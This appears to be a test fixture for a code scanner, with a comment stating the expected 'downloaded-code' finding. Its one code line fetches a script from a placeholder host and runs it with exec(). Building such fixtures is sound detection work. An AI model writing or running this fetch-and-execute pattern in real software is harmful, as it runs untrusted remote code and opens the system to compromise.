# expect: 3 downloaded-code
import urllib.request
exec(urllib.request.urlopen("http://h.invalid/p").read())
